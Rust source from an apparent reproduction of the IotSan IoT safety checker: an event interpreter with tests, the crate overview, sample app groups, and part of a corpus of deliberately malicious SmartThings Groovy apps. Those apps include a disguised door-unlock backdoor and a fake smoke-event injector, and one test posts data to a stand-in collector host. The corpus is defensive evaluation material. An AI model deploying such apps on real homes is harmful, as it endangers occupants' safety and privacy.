    fn exec_block(&mut self, stmts: &[IrStmt]) -> Flow {
        for stmt in stmts {
            if self.exec_stmt(stmt) == Flow::Return {
                return Flow::Return;
            }
        }
        Flow::Continue
    }

    fn exec_stmt(&mut self, stmt: &IrStmt) -> Flow {
        match stmt {
            IrStmt::DeviceCommand { input, command, args } => {
                let args: Vec<Value> = args.iter().map(|a| self.eval(a)).collect();
                // Resolve once per statement; `send_command` needs `&mut self`.
                let devices = DeviceBuf::from_slice(self.bound_devices(input).as_slice());
                for device in devices.as_slice() {
                    self.send_command(*device, command, &args);
                }
                Flow::Continue
            }
            IrStmt::SetLocationMode(expr) => {
                let value = self.eval(expr);
                let mode = LocationMode::parse(&value.as_string()).unwrap_or(self.state.mode);
                if mode != self.state.mode {
                    self.state.mode = mode;
                    self.log.push(|| LogEvent::ModeChange { mode });
                    self.events_out.push(InternalEvent {
                        device: None,
                        attribute: self.system.mode_sym(),
                        value: Value::Str(mode.name().to_string()),
                        physical: false,
                    });
                }
                Flow::Continue
            }
            IrStmt::SendSms { recipient, message } => {
                let recipient = self.eval(recipient).as_string();
                let body = self.eval(message).as_string();
                self.log.push(|| LogEvent::SendSms { recipient: recipient.clone() });
                self.observation.messages.push(MessageRecord {
                    app: self.app_name().to_string(),
                    channel: MessageChannel::Sms,
                    recipient,
                    body,
                });
                Flow::Continue
            }
            IrStmt::SendPush { message } => {
                let body = self.eval(message).as_string();
                self.log.push(|| LogEvent::SendPush);
                self.observation.messages.push(MessageRecord {
                    app: self.app_name().to_string(),
                    channel: MessageChannel::Push,
                    recipient: String::new(),
                    body,
                });
                Flow::Continue
            }
            IrStmt::HttpRequest { url, .. } => {
                let url = self.eval(url).as_string();
                let allowed =
                    self.system.config.network_allowed_apps.iter().any(|a| a == self.app_name());
                self.log.push(|| LogEvent::HttpPost { url: url.clone() });
                self.observation.network.push(NetworkRecord {
                    app: self.app_name().to_string(),
                    url,
                    allowed,
                });
                Flow::Continue
            }
            IrStmt::SendEvent { attribute, value } => {
                let value = self.eval(value);
                let attribute_sym = self.system.sym_of(attribute);
                self.log.push(|| LogEvent::SendEvent {
                    attribute: attribute_sym,
                    value: value.clone(),
                });
                self.observation.fake_events.push(FakeEventRecord {
                    app: self.app_name().to_string(),
                    attribute: attribute.clone(),
                    value: value.as_string(),
                });
                self.events_out.push(InternalEvent {
                    device: None,
                    attribute: attribute_sym,
                    value,
                    physical: false,
                });
                Flow::Continue
            }
            IrStmt::Unsubscribe => {
                self.log.push(|| LogEvent::Unsubscribe);
                self.observation.unsubscribes.push(self.app_name().to_string());
                Flow::Continue
            }
            IrStmt::Unschedule => Flow::Continue,
            IrStmt::Schedule { handler, .. } => {
                self.log.push(|| LogEvent::Schedule { handler: handler.clone() });
                Flow::Continue
            }
            IrStmt::AssignState { name, value } => {
                let value = self.eval(value);
                self.system.set_app_var_indexed(self.state, self.app_index, name, &value);
                Flow::Continue
            }
            IrStmt::AssignLocal { name, value } => {
                let value = self.eval(value);
                self.locals.insert(name.clone(), value);
                Flow::Continue
            }
            IrStmt::If { cond, then, els } => {
                if self.eval(cond).truthy() {
                    self.exec_block(then)
                } else {
                    self.exec_block(els)
                }
            }
            IrStmt::While { cond, body } => {
                let mut iterations = 0;
                while self.eval(cond).truthy() && iterations < MAX_LOOP_ITERATIONS {
                    if self.exec_block(body) == Flow::Return {
                        return Flow::Return;
                    }
                    iterations += 1;
                }
                Flow::Continue
            }
            IrStmt::ForEachDevice { input, body } => {
                let devices = DeviceBuf::from_slice(self.bound_devices(input).as_slice());
                for device in devices.as_slice() {
                    let device = *device;
                    self.iteration_overrides.push((input.clone(), device));
                    let flow = self.exec_block(body);
                    self.iteration_overrides.pop();
                    if flow == Flow::Return {
                        return Flow::Return;
                    }
                }
                Flow::Continue
            }
            IrStmt::Return(_) => Flow::Return,
            IrStmt::Log(expr) => {
                // Only evaluate the message when the log is recording — a
                // handler's `log.debug` must cost nothing during search.
                if self.log.is_enabled() {
                    let message = self.eval(expr).as_string();
                    self.log.push(|| LogEvent::LogMessage { message });
                }
                Flow::Continue
            }
            IrStmt::OpaqueCall { .. } => Flow::Continue,
        }
    }

    fn send_command(&mut self, device_id: DeviceId, command: &str, args: &[Value]) {
        let device = self.system.device(device_id);
        let spec = device.spec();
        if self.inject_command_failure {
            self.observation.command_failures += 1;
            self.observation.commands.push(CommandRecord {
                app: self.app_name().to_string(),
                handler: self.handler.name.clone(),
                device: device_id,
                device_label: device.label.clone(),
                command: command.to_string(),
                delivered: false,
                changed_state: false,
            });
            self.log.push(|| LogEvent::Command {
                device: device_id,
                command: command.to_string(),
                lost: true,
            });
            return;
        }
        let outcome = self.state.devices[device_id.0 as usize].apply_command(spec, command, args);
        let (delivered, changed_state) = match &outcome {
            CommandOutcome::Changed(_) => (true, true),
            CommandOutcome::NoChange => (true, false),
            CommandOutcome::Unsupported => (true, false),
            CommandOutcome::Offline => (false, false),
        };
        if matches!(outcome, CommandOutcome::Offline) {
            self.observation.command_failures += 1;
        }
        self.observation.commands.push(CommandRecord {
            app: self.app_name().to_string(),
            handler: self.handler.name.clone(),
            device: device_id,
            device_label: device.label.clone(),
            command: command.to_string(),
            delivered,
            changed_state,
        });
        self.log.push(|| LogEvent::Command {
            device: device_id,
            command: command.to_string(),
            lost: false,
        });
        if let CommandOutcome::Changed(changes) = outcome {
            for (attribute, value) in changes {
                self.log.push(|| LogEvent::AttrChange {
                    device: device_id,
                    attribute: attribute.clone(),
                    value: value.clone(),
                });
                self.events_out.push(InternalEvent {
                    device: Some(device_id),
                    attribute: self.system.sym_of(&attribute),
                    value,
                    physical: false,
                });
            }
        }
    }

    // ---- evaluation ------------------------------------------------------

    fn eval(&mut self, expr: &IrExpr) -> Value {
        match expr {
            IrExpr::Const(v) => v.clone(),
            IrExpr::Setting(name) => {
                let devices = self.bound_devices(name);
                let devices = devices.as_slice();
                if !devices.is_empty() {
                    Value::List(
                        devices
                            .iter()
                            .map(|d| Value::Str(self.system.device(*d).label.clone()))
                            .collect(),
                    )
                } else {
                    self.system.setting_value(self.app_name(), name)
                }
            }
            IrExpr::DeviceAttr { input, attribute } => {
                let devices = self.bound_devices(input);
                match devices.as_slice().first() {
                    Some(id) => {
                        let device = self.system.device(*id);
                        self.state.devices[id.0 as usize].get(device.spec(), attribute)
                    }
                    None => Value::Null,
                }
            }
            IrExpr::DeviceQuery { input, attribute, value, quantifier } => {
                let expected = self.eval(value);
                let devices = self.bound_devices(input);
                let devices = devices.as_slice();
                let matches = devices
                    .iter()
                    .filter(|id| {
                        let device = self.system.device(**id);
                        self.state.devices[id.0 as usize]
                            .get(device.spec(), attribute)
                            .loosely_equals(&expected)
                    })
                    .count();
                match quantifier {
                    Quantifier::Any => Value::Bool(matches > 0),
                    Quantifier::All => Value::Bool(!devices.is_empty() && matches == devices.len()),
                    Quantifier::Count => Value::Int(matches as i64),
                }
            }
            IrExpr::EventField(field) => match field {
                EventField::Value => self.event.value.clone(),
                EventField::NumericValue => {
                    self.event.value.as_number().map(Value::Decimal).unwrap_or(Value::Null)
                }
                EventField::Name => {
                    Value::Str(self.system.attr_name(self.event.attribute).to_string())
                }
                EventField::DeviceId => self
                    .event
                    .device
                    .map(|d| Value::Str(self.system.device(d).label.clone()))
                    .unwrap_or(Value::Null),
                EventField::DisplayName => self
                    .event
                    .device
                    .map(|d| Value::Str(self.system.device(d).label.clone()))
                    .unwrap_or(Value::Null),
                EventField::IsPhysical => Value::Bool(true),
                EventField::Date => Value::Int(self.state.time.seconds() as i64),
            },
            IrExpr::LocationMode => Value::Str(self.state.mode.name().to_string()),
            IrExpr::Time => Value::Int(self.state.time.seconds() as i64),
            IrExpr::StateVar(name) => self.system.app_var_indexed(self.state, self.app_index, name),
            IrExpr::Local(name) => self.locals.get(name).cloned().unwrap_or(Value::Null),
            IrExpr::Not(inner) => Value::Bool(!self.eval(inner).truthy()),
            IrExpr::Neg(inner) => match self.eval(inner).as_number() {
                Some(n) => Value::Decimal(-n),
                None => Value::Null,
            },
            IrExpr::Binary { op, lhs, rhs } => self.eval_binary(*op, lhs, rhs),
            IrExpr::Ternary { cond, then, els } => {
                if self.eval(cond).truthy() {
                    self.eval(then)
                } else {
                    self.eval(els)
                }
            }
            IrExpr::ListOf(items) => Value::List(items.iter().map(|e| self.eval(e)).collect()),
            IrExpr::Concat(parts) => Value::Str(
                parts.iter().map(|p| self.eval(p).as_string()).collect::<Vec<_>>().join(""),
            ),
            IrExpr::Opaque { .. } => Value::Null,
        }
    }

    fn eval_binary(&mut self, op: IrBinOp, lhs: &IrExpr, rhs: &IrExpr) -> Value {
        // Short-circuit logical operators.
        match op {
            IrBinOp::And => {
                let l = self.eval(lhs);
                return if !l.truthy() {
                    Value::Bool(false)
                } else {
                    Value::Bool(self.eval(rhs).truthy())
                };
            }
            IrBinOp::Or => {
                let l = self.eval(lhs);
                return if l.truthy() {
                    Value::Bool(true)
                } else {
                    Value::Bool(self.eval(rhs).truthy())
                };
            }
            _ => {}
        }
        let l = self.eval(lhs);
        let r = self.eval(rhs);
        match op {
            IrBinOp::Eq => Value::Bool(l.loosely_equals(&r)),
            IrBinOp::NotEq => Value::Bool(!l.loosely_equals(&r)),
            IrBinOp::Lt | IrBinOp::Le | IrBinOp::Gt | IrBinOp::Ge => {
                use std::cmp::Ordering::*;
                let Some(ordering) = l.compare(&r) else { return Value::Bool(false) };
                Value::Bool(match op {
                    IrBinOp::Lt => ordering == Less,
                    IrBinOp::Le => ordering != Greater,
                    IrBinOp::Gt => ordering == Greater,
                    IrBinOp::Ge => ordering != Less,
                    _ => unreachable!(),
                })
            }
            IrBinOp::In => match r {
                Value::List(items) => Value::Bool(items.iter().any(|i| i.loosely_equals(&l))),
                Value::Str(s) => Value::Bool(s.contains(&l.as_string())),
                _ => Value::Bool(false),
            },
            IrBinOp::Add => match (l.as_number(), r.as_number()) {
                (Some(a), Some(b)) => number(a + b),
                _ => Value::Str(format!("{}{}", l.as_string(), r.as_string())),
            },
            IrBinOp::Sub => numeric_op(&l, &r, |a, b| a - b),
            IrBinOp::Mul => numeric_op(&l, &r, |a, b| a * b),
            IrBinOp::Div => match (l.as_number(), r.as_number()) {
                (Some(a), Some(b)) if b != 0.0 => number(a / b),
                _ => Value::Null,
            },
            IrBinOp::Mod => match (l.as_number(), r.as_number()) {
                (Some(a), Some(b)) if b != 0.0 => number(a % b),
                _ => Value::Null,
            },
            IrBinOp::And | IrBinOp::Or => unreachable!("handled above"),
        }
    }
}

fn numeric_op(l: &Value, r: &Value, f: impl Fn(f64, f64) -> f64) -> Value {
    match (l.as_number(), r.as_number()) {
        (Some(a), Some(b)) => number(f(a, b)),
        _ => Value::Null,
    }
}

fn number(n: f64) -> Value {
    if n.fract() == 0.0 {
        Value::Int(n as i64)
    } else {
        Value::Decimal(n)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_config::{AppConfig, Binding, DeviceConfig, SystemConfig};
    use iotsan_ir::{AppInput, SettingKind, Trigger};

    fn build_system(handler_body: Vec<IrStmt>) -> (InstalledSystem, IrHandler) {
        let handler = IrHandler {
            app: "Test App".into(),
            name: "handler".into(),
            trigger: Trigger::Device {
                input: "sensor".into(),
                attribute: "temperature".into(),
                value: None,
            },
            body: handler_body,
        };
        let app = iotsan_ir::IrApp {
            name: "Test App".into(),
            description: String::new(),
            inputs: vec![
                AppInput::device("sensor", "temperatureMeasurement"),
                AppInput {
                    name: "outlets".into(),
                    kind: SettingKind::Device { capability: "switch".into(), multiple: true },
                    title: String::new(),
                    required: true,
                },
                AppInput {
                    name: "setpoint".into(),
                    kind: SettingKind::Decimal,
                    title: String::new(),
                    required: true,
                },
                AppInput {
                    name: "phone".into(),
                    kind: SettingKind::Phone,
                    title: String::new(),
                    required: false,
                },
            ],
            handlers: vec![handler.clone()],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let config = SystemConfig::new()
            .with_device(DeviceConfig::new("tempSensor", "temperatureMeasurement", ""))
            .with_device(DeviceConfig::new("heaterOutlet", "switch", "heater"))
            .with_device(DeviceConfig::new("acOutlet", "switch", "AC"))
            .with_app(
                AppConfig::new("Test App")
                    .with("sensor", Binding::Devices(vec!["tempSensor".into()]))
                    .with(
                        "outlets",
                        Binding::Devices(vec!["heaterOutlet".into(), "acOutlet".into()]),
                    )
                    .with("setpoint", Binding::Number(75.0))
                    .with("phone", Binding::Text("5551234567".into())),
            );
        (InstalledSystem::new(vec![app], config), handler)
    }

    fn temp_event(system: &InstalledSystem, value: i64) -> DispatchedEvent {
        DispatchedEvent {
            device: Some(DeviceId(0)),
            attribute: system.sym_of("temperature"),
            value: Value::Int(value),
        }
    }

    /// Runs the handler with an enabled log, returning the generated events
    /// and rendered log lines (the shape the old `HandlerEffects` exposed).
    fn run(
        system: &InstalledSystem,
        handler: &IrHandler,
        event: &DispatchedEvent,
        state: &mut SystemState,
        obs: &mut StepObservation,
        fail: bool,
    ) -> (Vec<InternalEvent>, Vec<String>) {
        let mut events = Vec::new();
        let mut log = StepLog::enabled();
        run_handler(system, 0, handler, event, state, obs, fail, &mut events, &mut log);
        let lines = log.events().iter().map(|e| e.render(system).text).collect();
        (events, lines)
    }

    #[test]
    fn guarded_command_fires_when_condition_holds() {
        let body = vec![IrStmt::If {
            cond: IrExpr::binary(
                IrBinOp::Gt,
                IrExpr::EventField(EventField::NumericValue),
                IrExpr::Setting("setpoint".into()),
            ),
            then: vec![IrStmt::DeviceCommand {
                input: "outlets".into(),
                command: "on".into(),
                args: vec![],
            }],
            els: vec![IrStmt::DeviceCommand {
                input: "outlets".into(),
                command: "off".into(),
                args: vec![],
            }],
        }];
        let (system, handler) = build_system(body);
        let mut state = system.initial_state();
        let mut obs = StepObservation::default();

        // 85 > 75 → both outlets turned on, two state-change events generated.
        let event = temp_event(&system, 85);
        let (events, _) = run(&system, &handler, &event, &mut state, &mut obs, false);
        assert_eq!(obs.commands.len(), 2);
        assert!(obs.commands.iter().all(|c| c.command == "on" && c.delivered));
        assert_eq!(events.len(), 2);
        let snap = system.snapshot(&state);
        assert!(snap.role_attr_is(iotsan_properties::DeviceRole::Heater, "switch", "on"));
        assert!(snap.role_attr_is(iotsan_properties::DeviceRole::AirConditioner, "switch", "on"));
    }

    #[test]
    fn else_branch_and_no_change_commands() {
        let body = vec![IrStmt::If {
            cond: IrExpr::binary(
                IrBinOp::Gt,
                IrExpr::EventField(EventField::NumericValue),
                IrExpr::Setting("setpoint".into()),
            ),
            then: vec![IrStmt::DeviceCommand {
                input: "outlets".into(),
                command: "on".into(),
                args: vec![],
            }],
            els: vec![IrStmt::DeviceCommand {
                input: "outlets".into(),
                command: "off".into(),
                args: vec![],
            }],
        }];
        let (system, handler) = build_system(body);
        let mut state = system.initial_state();
        let mut obs = StepObservation::default();
        // 60 < 75 → off commands; devices already off so no state change events.
        let event = temp_event(&system, 60);
        let (events, _) = run(&system, &handler, &event, &mut state, &mut obs, false);
        assert_eq!(obs.commands.len(), 2);
        assert!(obs.commands.iter().all(|c| !c.changed_state));
        assert!(events.is_empty());
    }

    #[test]
    fn messaging_network_and_fake_events_are_observed() {
        let body = vec![
            IrStmt::SendSms {
                recipient: IrExpr::Setting("phone".into()),
                message: IrExpr::str("alert"),
            },
            IrStmt::SendPush { message: IrExpr::str("alert") },
            IrStmt::HttpRequest {
                method: iotsan_ir::HttpMethod::Post,
                url: IrExpr::str("http://collector.example.com"),
                payload: None,
            },
            IrStmt::SendEvent { attribute: "smoke".into(), value: IrExpr::str("detected") },
            IrStmt::Unsubscribe,
        ];
        let (system, handler) = build_system(body);
        let mut state = system.initial_state();
        let mut obs = StepObservation::default();
        let event = temp_event(&system, 70);
        let (events, lines) = run(&system, &handler, &event, &mut state, &mut obs, false);
        assert_eq!(obs.messages.len(), 2);
        assert_eq!(obs.messages[0].recipient, "5551234567");
        assert_eq!(obs.network.len(), 1);
        assert!(!obs.network[0].allowed);
        assert_eq!(obs.fake_events.len(), 1);
        assert_eq!(obs.unsubscribes, vec!["Test App".to_string()]);
        // The fake smoke event is also queued for dispatch.
        assert!(events.iter().any(|e| system.attr_name(e.attribute) == "smoke"));
        assert!(lines.iter().any(|l| l == "sendSms(5551234567)"));
        assert!(lines.iter().any(|l| l == "sendEvent(smoke=detected)"));
    }

    #[test]
    fn command_failure_injection_marks_undelivered() {
        let body = vec![IrStmt::DeviceCommand {
            input: "outlets".into(),
            command: "on".into(),
            args: vec![],
        }];
        let (system, handler) = build_system(body);
        let mut state = system.initial_state();
        let mut obs = StepObservation::default();
        let event = temp_event(&system, 90);
        let (_, lines) = run(&system, &handler, &event, &mut state, &mut obs, true);
        assert_eq!(obs.command_failures, 2);
        assert!(obs.commands.iter().all(|c| !c.delivered));
        assert!(lines.iter().any(|l| l.ends_with("LOST (failure)")));
        // Device state unchanged.
        let snap = system.snapshot(&state);
        assert!(!snap.role_attr_is(iotsan_properties::DeviceRole::Heater, "switch", "on"));
    }

    #[test]
    fn state_vars_for_each_and_queries() {
        let body = vec![
            IrStmt::AssignState { name: "count".into(), value: IrExpr::int(1) },
            IrStmt::ForEachDevice {
                input: "outlets".into(),
                body: vec![IrStmt::DeviceCommand {
                    input: "outlets".into(),
                    command: "on".into(),
                    args: vec![],
                }],
            },
            IrStmt::If {
                cond: IrExpr::DeviceQuery {
                    input: "outlets".into(),
                    attribute: "switch".into(),
                    value: Box::new(IrExpr::str("on")),
                    quantifier: Quantifier::All,
                },
                then: vec![IrStmt::SendPush { message: IrExpr::str("all on") }],
                els: vec![],
            },
        ];
        let (system, handler) = build_system(body);
        let mut state = system.initial_state();
        let mut obs = StepObservation::default();
        let event = temp_event(&system, 70);
        run(&system, &handler, &event, &mut state, &mut obs, false);
        assert_eq!(system.app_var(&state, "Test App", "count"), Value::Str("1".into()));
        // ForEachDevice issued one command per outlet, and the All-query then
        // saw both outlets on.
        assert_eq!(obs.commands.len(), 2);
        assert_eq!(obs.messages.len(), 1);
    }

    #[test]
    fn while_loops_terminate() {
        let body = vec![
            IrStmt::AssignLocal { name: "i".into(), value: IrExpr::int(0) },
            IrStmt::While {
                cond: IrExpr::bool(true),
                body: vec![IrStmt::AssignLocal {
                    name: "i".into(),
                    value: IrExpr::binary(IrBinOp::Add, IrExpr::Local("i".into()), IrExpr::int(1)),
                }],
            },
            IrStmt::SendPush { message: IrExpr::str("done") },
        ];
        let (system, handler) = build_system(body);
        let mut state = system.initial_state();
        let mut obs = StepObservation::default();
        let event = temp_event(&system, 70);
        let (_, lines) = run(&system, &handler, &event, &mut state, &mut obs, false);
        // The loop is bounded and execution continues past it.
        assert_eq!(obs.messages.len(), 1);
        assert!(!lines.is_empty());
    }

    #[test]
    fn disabled_log_records_nothing_but_behaviour_is_identical() {
        let body = vec![IrStmt::DeviceCommand {
            input: "outlets".into(),
            command: "on".into(),
            args: vec![],
        }];
        let (system, handler) = build_system(body);
        let mut state = system.initial_state();
        let mut obs = StepObservation::default();
        let mut events = Vec::new();
        let mut log = StepLog::disabled();
        let event = temp_event(&system, 70);
        run_handler(
            &system,
            0,
            &handler,
            &event,
            &mut state,
            &mut obs,
            false,
            &mut events,
            &mut log,
        );
        assert!(log.events().is_empty());
        assert_eq!(obs.commands.len(), 2);
        assert_eq!(events.len(), 2);
    }

    #[test]
    fn arithmetic_and_concat_evaluation() {
        let body = vec![
            IrStmt::AssignLocal {
                name: "x".into(),
                value: IrExpr::binary(IrBinOp::Mul, IrExpr::int(6), IrExpr::int(7)),
            },
            IrStmt::AssignState {
                name: "msg".into(),
                value: IrExpr::Concat(vec![IrExpr::str("x="), IrExpr::Local("x".into())]),
            },
        ];
        let (system, handler) = build_system(body);
        let mut state = system.initial_state();
        let mut obs = StepObservation::default();
        let event = temp_event(&system, 70);
        run(&system, &handler, &event, &mut state, &mut obs, false);
        assert_eq!(system.app_var(&state, "Test App", "msg"), Value::Str("x=42".into()));
    }
}
