//! # iotsan
//!
//! IotSan-rs: a from-scratch Rust reproduction of *IotSan: Fortifying the
//! Safety of IoT Systems* (Nguyen et al., CoNEXT 2018).
//!
//! IotSan takes a holistic view of an event-driven IoT system — the installed
//! smart apps, the sensors and actuators they are configured with, and the
//! way events chain between them — and uses explicit-state model checking to
//! find event sequences that drive the system into unsafe physical states,
//! leak information, or break under device/communication failures.  Detected
//! violations are attributed to malicious apps, bad apps, or
//! misconfigurations.
//!
//! This crate is the pipeline tying the substrates together:
//!
//! * [`pipeline::translate_sources`] — SmartThings Groovy → IR
//!   (via `iotsan-groovy` and `iotsan-ir`);
//! * [`pipeline::Pipeline::analyze_dependencies`] — related-set computation
//!   (via `iotsan-depgraph`);
//! * [`model::SequentialModel`] / [`model::ConcurrentModel`] — the Model
//!   Generator (§8, Algorithm 1) over `iotsan-devices`, checked by
//!   `iotsan-checker` against the 45 properties of `iotsan-properties`;
//! * [`pipeline::Pipeline::attribute_new_app`] — the Output Analyzer (§9) via
//!   `iotsan-attribution` and configuration enumeration from `iotsan-config`;
//! * [`planner::VerificationPlanner`] / [`pipeline::Pipeline::verify_fleet`]
//!   — group-wise fleet checking with a content-addressed result cache and
//!   trace-driven suspect ranking;
//! * [`features`] — the Table 1 feature matrix.
//!
//! ```
//! use iotsan::{translate_sources, Pipeline};
//! use iotsan_config::{expert_configure, standard_household};
//!
//! let sources = [r#"
//! definition(name: "Brighten My Path", namespace: "st", author: "x", description: "d")
//! preferences {
//!     section("s") { input "motionSensor", "capability.motionSensor" }
//!     section("s") { input "lights", "capability.switch", multiple: true }
//! }
//! def installed() { subscribe(motionSensor, "motion.active", onMotion) }
//! def onMotion(evt) { lights.on() }
//! "#];
//! let apps = translate_sources(&sources).unwrap();
//! let config = expert_configure(&apps, &standard_household());
//! let result = Pipeline::with_events(2).verify(&apps, &config);
//! assert!(!result.has_violations());
//! ```

#![deny(missing_docs)]

pub mod features;
pub mod interp;
pub mod logevent;
pub mod model;
pub mod pipeline;
pub mod planner;
pub mod system;

pub use features::{comparison_matrix, render_table1, SystemFeatures, FEATURES};
pub use interp::{run_handler, DispatchedEvent};
pub use logevent::LogEvent;
pub use model::{
    ConcurrentAction, ConcurrentModel, ExternalAction, ModelOptions, ModelScratch, SequentialModel,
};
pub use pipeline::{translate_sources, GroupResult, Pipeline, TranslateError, VerificationResult};
pub use planner::{
    Fingerprint, FleetGroupReport, FleetPlan, FleetReport, GroupJob, GroupOutcome,
    VerdictPersistence, VerificationCache, VerificationPlanner,
};
pub use system::{InstalledSystem, InternalEvent, SystemState};

// Re-export the sibling crates so downstream users (examples, benches, the
// reproduction harness) need only depend on `iotsan`.
pub use iotsan_analysis as analysis;
pub use iotsan_attribution as attribution;
pub use iotsan_checker as checker;
pub use iotsan_config as config;
pub use iotsan_depgraph as depgraph;
pub use iotsan_devices as devices;
pub use iotsan_groovy as groovy;
pub use iotsan_ir as ir;
pub use iotsan_promela as promela;
pub use iotsan_properties as properties;
