//! Canonical sample groups used throughout the evaluation.
//!
//! These are the specific app combinations the paper exercises: the Figure 4 /
//! Tables 2–3 dependency-graph example, the bad groups and the good group of
//! the performance comparison (§10.1, "Performance"), and the Figure 8
//! violation scenarios.

use crate::market::{self, MarketApp};

/// The five apps of the Figure 4 / Table 2 dependency-graph example
/// (Brighten Dark Places, Let There Be Dark!, Auto Mode Change, Unlock Door,
/// Big Turn On — six event handlers, vertices 0–6).
pub fn figure4_group() -> Vec<MarketApp> {
    named(&[
        "Brighten Dark Places",
        "Let There Be Dark!",
        "Auto Mode Change",
        "Unlock Door",
        "Big Turn On",
    ])
}

/// The first "bad group" of the performance experiment:
/// (Auto Mode Change, Unlock Door).
pub fn bad_group_mode_unlock() -> Vec<MarketApp> {
    named(&["Auto Mode Change", "Unlock Door"])
}

/// The second "bad group": (Brighten Dark Places, Let There Be Dark!).
pub fn bad_group_lights() -> Vec<MarketApp> {
    named(&["Brighten Dark Places", "Let There Be Dark!"])
}

/// The "good group" used for Table 7b: (Good Night, It's Too Cold) over
/// 3 switches, 3 motion sensors and a temperature sensor.
pub fn good_group() -> Vec<MarketApp> {
    named(&["Good Night", "It's Too Cold"])
}

/// The Figure 8a chain: Light Follows Me, Light Off When Close, Good Night and
/// Unlock Door — four apps whose interaction unlocks the main door when people
/// go to sleep.
pub fn figure8a_group() -> Vec<MarketApp> {
    named(&["Light Follows Me", "Light Off When Close", "Good Night", "Unlock Door"])
}

/// The Figure 8b scenario: Darken Behind Me + Make It So (+ the failing motion
/// sensor injected by the model's failure policy).
pub fn figure8b_group() -> Vec<MarketApp> {
    named(&["Darken Behind Me", "Make It So"])
}

/// The larger 5-app related group used for the Table 8 scaling experiment.
pub fn table8_group() -> Vec<MarketApp> {
    named(&["Auto Mode Change", "Unlock Door", "Big Turn On", "Good Night", "Energy Saver"])
}

fn named(names: &[&str]) -> Vec<MarketApp> {
    let catalog = market::named_apps();
    names
        .iter()
        .map(|name| {
            catalog
                .iter()
                .find(|a| a.name == *name)
                .unwrap_or_else(|| panic!("sample app {name} missing from the named corpus"))
                .clone()
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_groovy::SmartApp;
    use iotsan_ir::lower_app;

    #[test]
    fn sample_groups_resolve_and_translate() {
        for (label, group) in [
            ("figure4", figure4_group()),
            ("bad mode/unlock", bad_group_mode_unlock()),
            ("bad lights", bad_group_lights()),
            ("good", good_group()),
            ("figure8a", figure8a_group()),
            ("figure8b", figure8b_group()),
            ("table8", table8_group()),
        ] {
            assert!(!group.is_empty(), "{label} group is empty");
            for app in group {
                let ir = lower_app(&SmartApp::parse(&app.source).unwrap()).unwrap();
                assert!(!ir.handlers.is_empty(), "{label}: {} has no handlers", app.name);
            }
        }
    }

    #[test]
    fn figure4_group_has_six_handlers() {
        let handlers: usize = figure4_group()
            .iter()
            .map(|a| lower_app(&SmartApp::parse(&a.source).unwrap()).unwrap().handlers.len())
            .sum();
        // Table 2 lists six handlers across the five apps... plus the optional
        // motion handler some implementations add; at least six must exist.
        assert!(handlers >= 6);
    }

    #[test]
    fn figure8a_group_has_four_apps() {
        assert_eq!(figure8a_group().len(), 4);
    }
}
