//! The malicious-app corpus.
//!
//! §10.1 evaluates attribution with 9 malicious apps from ContexIoT (Jia et
//! al., NDSS'17) that are relevant to IotSan's scope — apps that affect the
//! physical state, leak information through network interfaces, raise fake
//! events or disable other apps.  The original Groovy sources are not
//! redistributable, so each app is re-implemented here from the behaviour the
//! papers describe; every app drives the system into the same violation class
//! as its original.

use crate::market::MarketApp;

/// The nine malicious apps with the violation class each one triggers.
#[derive(Debug, Clone, PartialEq)]
pub struct MaliciousApp {
    /// The app itself.
    pub app: MarketApp,
    /// The violation class the app is designed to cause (used by tests and
    /// the reproduction harness to label results).
    pub expected_violation: &'static str,
}

/// The nine ContexIoT-style malicious apps.
pub fn malicious_apps() -> Vec<MaliciousApp> {
    vec![
        MaliciousApp {
            app: MarketApp { name: "Backdoor Pin Code".into(), source: BACKDOOR_PIN_CODE.into() },
            expected_violation: "unsafe physical state (door unlocked when no one is at home)",
        },
        MaliciousApp {
            app: MarketApp {
                name: "Fake Smoke Detector".into(),
                source: FAKE_SMOKE_DETECTOR.into(),
            },
            expected_violation: "security-sensitive command (fake event)",
        },
        MaliciousApp {
            app: MarketApp { name: "Fake CO Alarm".into(), source: FAKE_CO_ALARM.into() },
            expected_violation: "security-sensitive command (fake event + unsubscribe)",
        },
        MaliciousApp {
            app: MarketApp { name: "Leaky Presence".into(), source: LEAKY_PRESENCE.into() },
            expected_violation: "information leakage (httpPost)",
        },
        MaliciousApp {
            app: MarketApp { name: "Leaky Lock Codes".into(), source: LEAKY_LOCK_CODES.into() },
            expected_violation: "information leakage (httpPost)",
        },
        MaliciousApp {
            app: MarketApp {
                name: "Water Valve Saboteur".into(),
                source: WATER_VALVE_SABOTEUR.into(),
            },
            expected_violation: "unsafe physical state (water valve closed when smoke is detected)",
        },
        MaliciousApp {
            app: MarketApp { name: "Away Mode Unlocker".into(), source: AWAY_MODE_UNLOCKER.into() },
            expected_violation: "unsafe physical state (door unlocked in Away mode)",
        },
        MaliciousApp {
            app: MarketApp { name: "Alarm Silencer".into(), source: ALARM_SILENCER.into() },
            expected_violation: "unsafe physical state (alarm silenced during smoke)",
        },
        MaliciousApp {
            app: MarketApp { name: "Midnight Heater".into(), source: MIDNIGHT_HEATER.into() },
            expected_violation: "unsafe physical state (heater on when temperature is high)",
        },
    ]
}

/// Opens the door whenever motion stops — creating a break-in window while
/// nobody is home.
pub const BACKDOOR_PIN_CODE: &str = r#"
definition(name: "Backdoor Pin Code", namespace: "evil", author: "mallory",
    description: "Convenience unlocking for your smart lock.")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
    section("Motion") { input "motionSensor", "capability.motionSensor" }
}
def installed() {
    subscribe(motionSensor, "motion.inactive", quietHandler)
}
def quietHandler(evt) {
    lock1.unlock()
}
"#;

/// Raises fake smoke events to trigger other apps' emergency behaviour.
pub const FAKE_SMOKE_DETECTOR: &str = r#"
definition(name: "Fake Smoke Detector", namespace: "evil", author: "mallory",
    description: "Enhanced smoke detection analytics.")
preferences {
    section("Smoke detector") { input "smokeSensor", "capability.smokeDetector" }
    section("Motion") { input "motionSensor", "capability.motionSensor" }
}
def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}
def motionHandler(evt) {
    sendEvent(name: "smoke", value: "detected")
}
"#;

/// Fakes a carbon monoxide event and disables its own subscriptions so the
/// user cannot trace the behaviour.
pub const FAKE_CO_ALARM: &str = r#"
definition(name: "Fake CO Alarm", namespace: "evil", author: "mallory",
    description: "Carbon monoxide safety companion.")
preferences {
    section("CO detector") { input "coSensor", "capability.carbonMonoxideDetector" }
}
def installed() {
    subscribe(coSensor, "carbonMonoxide", coHandler)
}
